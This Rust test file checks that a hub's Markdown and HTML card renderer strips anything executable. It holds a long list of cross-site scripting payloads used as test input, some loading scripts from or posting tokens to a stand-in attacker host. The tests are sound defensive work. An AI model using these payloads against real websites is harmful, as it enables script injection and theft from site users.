use std::cell::RefCell;

use html5ever::{
    tendril::StrTendril,
    tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts},
};
use hub_types::{RepoRef, RepoType};
use proptest::prelude::*;

use super::*;

fn render(text: &str) -> String {
    let repo = RepoRef::new(RepoType::Model, "ada/demo".parse().unwrap());
    super::render(text, Links::new(&Paths::new(&repo), "main", ""))
}

/// The pieces of some HTML, as a browser reads them.
#[derive(Default)]
struct Pieces(RefCell<Vec<Token>>);

impl TokenSink for Pieces {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        self.0.borrow_mut().push(token);
        TokenSinkResult::Continue
    }
}

fn pieces(html: &str) -> Vec<Token> {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Pieces::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}

/// What may be shown. None of these changes how what comes after it is read.
const TAGS: [&str; 38] = [
    "a",
    "b",
    "blockquote",
    "br",
    "caption",
    "code",
    "col",
    "colgroup",
    "del",
    "details",
    "div",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "ul",
];

#[track_caller]
fn must_be_safe(tag: &Tag, html: &str) {
    let name: &str = &tag.name;
    assert!(TAGS.contains(&name), "<{name}> in {html}");
    for attribute in &tag.attrs {
        let (key, value): (&str, &str) = (&attribute.name.local, &attribute.value);
        let is_fine = match key {
            "href" | "src" => is_safe(value),
            "class" if name == "p" => value == "muted",
            "class" => value == "scroll" || value.split(' ').all(|class| class.starts_with("hl-")),
            "id" => value.starts_with("card-"),
            "rel" => value == ELSEWHERE,
            "role" => value == "region",
            "tabindex" => value == "0",
            "align" | "alt" | "aria-label" | "colspan" | "height" | "open" | "rowspan" | "scope"
            | "start" | "title" | "width" => true,
            _ => false,
        };
        assert!(is_fine, "{key}={value:?} in {html}");
    }
    let is_link = name == "a" && tag.kind == TagKind::StartTag;
    assert!(!is_link || tag.attrs.iter().any(|attribute| &*attribute.name.local == "rel"), "{html}");
}

/// Whether a link leads to a page, whoever reads it.
fn is_safe(link: &str) -> bool {
    let bare: String = link.chars().filter(|c| !c.is_ascii_control() && *c != ' ').collect();
    let is_own = bare.starts_with('/') && !bare.starts_with("//") && !bare.starts_with("/\\");
    let schemes = ["http://", "https://", "mailto:"];
    bare == link && (is_own || bare.starts_with('#') || schemes.iter().any(|scheme| bare.starts_with(scheme)))
        || link.starts_with('#')
}

#[track_caller]
fn must_run_nothing(text: &str) -> String {
    let html = render(text);
    for piece in pieces(&html) {
        match piece {
            Token::TagToken(tag) => must_be_safe(&tag, &html),
            Token::CommentToken(_) | Token::DoctypeToken(_) => panic!("{piece:?} in {html}"),
            _ => {}
        }
    }
    // What was cleaned is clean.
    let repo = RepoRef::new(RepoType::Model, "ada/demo".parse().unwrap());
    let again = clean(&html, Links::new(&Paths::new(&repo), "main", ""));
    assert_eq!(pieces(&again).len(), pieces(&html).len(), "{html}\nis read in another way:\n{again}");
    html
}

#[test]
fn places_of_a_comment_are_its_own() {
    let repo = RepoRef::new(RepoType::Model, "ada/demo".parse().unwrap());
    let comment = |text: &str| render_comment(text, &Paths::new(&repo), "main", "7");
    assert!(comment("# A").contains("<h2 id=\"7-card-a\">A</h2>"));
    assert!(comment("[x](#a)").contains("href=\"#7-card-a\""));
    let other = comment("[y](b.md#c) ` id=\"x\" ` [z](# \" id=\")");
    assert!(other.contains("href=\"/ada/demo/blob/main/b.md#card-c\""), "{other}");
    assert!(!other.contains(" id=\"7"), "{other}");
}

#[test]
fn nothing_that_an_author_writes_runs() {
    let tricks = [
        "<script>alert(1)</script>",
        "a <script>alert(1)</script> b",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\" alt=\"y\">",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x:x onerror&equals;alert(1)>",
        "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&Tab;javascript&colon;alert(1)\">x</a>",
        "<a href=\" \u{1}JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"vbscript:x\">x</a><a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"//evil.example\">x</a><a href=\"/\\evil.example\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](<java script:alert(1)>)",
        "[x](java&#10;script:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x][y]\n\n[y]: javascript:alert(1) \"a\" onclick=\"b\"",
        "<javascript:alert(1)>",
        "<https://evil.example/\"onmouseover=alert(1)>",
        "![x](javascript:alert(1))",
        "![\" onerror=\"alert(1)](x.png \"\\\" onerror=\\\"alert(1)\")",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"javascript:alert(1)\"></object><embed src=x><applet code=x>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<form action=https://evil.example><input name=token><button formaction=javascript:alert(1)>x</button></form>",
        "<style>body{display:none}</style><p style=\"position:fixed;top:0\">x</p>",
        "<div class=\"top bar\" id=\"content\" style=\"x\">x</div>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<p title=\"`<img src=x onerror=alert(1)>`\">x</p>",
        "<!-- <!-- --> <script>alert(1)</script> -->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><script>alert(1)</script>\"></xmp><plaintext>",
        "<select><option><img src=x onerror=alert(1)></select>",
        "<table><td background=\"javascript:alert(1)\">x<caption onclick=alert(1)>",
        "<a href=x id=content name=form_token onclick=alert(1)>x</a>",
        "<img name=getElementById src=x><form id=forms>",
        "<a href=\"\u{202e}javascript:alert(1)\">x</a><ａ href=x>",
        "<p\u{0}onclick=alert(1)>x</p><img\u{c}src=x\u{c}onerror=alert(1)>",
        "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "# <img src=x onerror=alert(1)> \" onclick=alert(1)",
        "a[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: <script>alert(1)</script>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "> [!NOTE]\n> <script>alert(1)</script>",
        "- [ ] <input type=checkbox onclick=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<body onload=alert(1)><html onclick=alert(1)><head><frameset onload=alert(1)>",
        "<x onclick=alert(1)><custom-element onclick=alert(1)>x</custom-element>",
        "<p/onclick=alert(1)//>x<p\tonclick\r\n=\r\nalert(1)>x",
        "<a href='https://example.com/\"onclick=\"alert(1)'>x</a>",
    ];
    assert!(tricks.len() > 60);
    for trick in tricks {
        let html = must_run_nothing(trick);
        // The same in the middle of other things.
        must_run_nothing(&format!(
            "> - **{trick}**\n\n<div align=center>\n\n{trick}\n\n| {trick} |\n|-|\n\n"
        ));
        assert!(!html.contains("<script") && !html.contains("<img src=x onerror"), "{html}");
    }
}

#[test]
fn a_card_looks_as_its_author_means_it() {
    let card = "# A *title*\n\nText with `code`, ~~old~~ and [a link](docs/a.md#b).\n\n![Picture](<a b.png>)\n\n\
        | x | y |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] to do\n\n1. one\n\n## A title\n\nSee [above](#a-title-1)[^1].\n\n\
        [^1]: A note.\n\n```python\nx = 1\n```\n";
    let html = must_run_nothing(card);
    for part in [
        "<h2 id=\"card-a-title\">A <em>title</em></h2>",
        "<code>code</code>, <del>old</del>",
        "href=\"/ada/demo/blob/main/docs/a.md#card-b\"",
        "<img src=\"/ada/demo/resolve/main/a%20b.png\" alt=\"Picture\">",
        "<th scope=\"col\" align=\"right\">y</th>",
        "<td align=\"left\">1</td>",
        "<li>☑ done</li>",
        "<ol><li>one</li>",
        "<h3 id=\"card-a-title-1\">A title</h3>",
        "href=\"#card-a-title-1\"",
        "href=\"#card-note-1\"",
        "id=\"card-note-1\"",
        "<pre tabindex=\"0\"><code>x <span class=\"hl-keyword\">= </span>",
    ] {
        assert!(html.contains(part), "{part} is not in\n{html}");
    }
}

#[test]
fn html_of_cards_is_shown_with_the_markdown_in_it() {
    let card = "<p align=\"center\">\n  <img src=\"logo.png\" width=\"200\">\n\n<details>\n<summary>More</summary>\n\n**bold**\n\n\
        </details>\n\nWater is H<sub>2</sub>O<br>\n\n<center>\n\n# Title\n\n</center>\n\n<table><tr><td>1<td>2<tr><td>3</table>";
    let html = must_run_nothing(card);
    let order = [
        "<p align=\"center\">",
        "logo.png",
        "</p>",
        "<details>",
        "<summary>More</summary>",
        "<strong>bold</strong>",
        "</details>",
        "<sub>2</sub>O<br>",
        "<div align=\"center\">",
        "<h2",
        "</div>",
        "class=\"scroll\"",
        "<td>1</td>",
        "<td>2</td>",
        "<td>3</td>",
        "</table></div>",
    ];
    let mut rest = html.as_str();
    for part in order {
        let (_, after) =
            rest.split_once(part).unwrap_or_else(|| panic!("no {part} after the others in\n{html}"));
        rest = after;
    }
    assert!(html.contains("alt=\"\""), "an image without words has none: {html}");
}

#[test]
fn a_text_that_is_made_to_be_too_much_is_cut() {
    let many = |piece: &str| piece.repeat(10_000);
    let texts = [
        "*a* ".repeat(60_000),
        many("*a* "),
        many("<b>"),
        many("<p><b>x<div>"),
        many("<td>"),
        many("<b></i>"),
        format!("{}x", many("> ").get(..50_000).unwrap_or_default()),
        many("["),
        many("![a"),
        many("|a"),
        many("<a href="),
        many("- "),
        many("`"),
        many("&"),
        many("[^a]"),
        many("# a\n"),
        format!("|{}\n|{}\n{}", "a|".repeat(2000), "-|".repeat(2000), "|\n".repeat(2000)),
    ];
    for text in texts {
        let html = must_run_nothing_quickly(&text);
        let elements = html.matches('<').count();
        assert!(elements < 2 * 60_000 * 2, "{elements} of {:?}", text.get(..20));
    }
}

/// As `must_run_nothing`, without cleaning once more.
fn must_run_nothing_quickly(text: &str) -> String {
    let html = render(text);
    for piece in pieces(&html) {
        if let Token::TagToken(tag) = piece {
            must_be_safe(&tag, "a long text");
        }
    }
    html
}

#[test]
fn who_reads_a_text_that_is_cut_is_told() {
    assert!(render(&"*a* ".repeat(60_000)).contains("The text goes on"));
    assert!(!render(&"*a* ".repeat(60)).contains("The text goes on"));
}

#[test]
fn formats_that_are_left_open_are_not_opened_in_every_block_again() {
    let open: String = (0..90).map(|number| format!("<b id=\"{number}\"><i><em><code>")).collect();
    let html = render(&format!("<p>{open}{}", "<div>x</div>".repeat(1000)));
    assert!(html.matches("<b>").count() <= 1001, "{}", html.matches("<b>").count());
}

#[test]
fn a_text_ends_at_a_letter() {
    let text = "ü".repeat(LONGEST);
    assert_eq!(start_of(&text).len(), LONGEST);
    let odd = format!("a{text}");
    assert_eq!(start_of(&odd).len(), LONGEST - 1);
    assert_eq!(start_of("short"), "short");
}

proptest! {
    #[test]
    fn whatever_is_written_is_safe(
        text in "(<(/?(a|b|p|div|script|svg|style|table|td|img|math|template|details))?|[ \"'=>/#*`\\[\\]()!|&;:-]|\n|href|src|onclick|javascript:|&#x6a;|x){0,40}",
    ) {
        must_run_nothing(&text);
    }
}
